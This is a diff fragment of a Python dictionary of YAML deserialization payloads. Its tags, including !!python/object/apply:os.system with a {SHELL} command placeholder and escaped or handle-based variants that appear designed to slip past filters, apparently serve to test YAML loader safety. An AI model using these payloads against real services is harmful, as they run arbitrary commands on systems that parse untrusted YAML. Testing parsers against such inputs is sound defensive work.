@@ -22,7 +22,7 @@ YAML = {
     "new": f"!!python/object/new:os.system ['{SHELL}']\n",
     "name": "f: !!python/name:os.system\n",
     "module": "m: !!python/module:os\n",
-    "object": "!!python/object:argparse.Namespace {a: 1}\n",
+    "object": "!!python/object:http.server.HTTPServer {a: 1}\n",
     "apply-with-a-verbatim-tag": f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{SHELL}']\n",
     "apply-with-a-handle": f"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['{SHELL}']\n",
     "apply-escaped-tag": f"!!python%2Fobject/apply:os.system ['{SHELL}']\n",
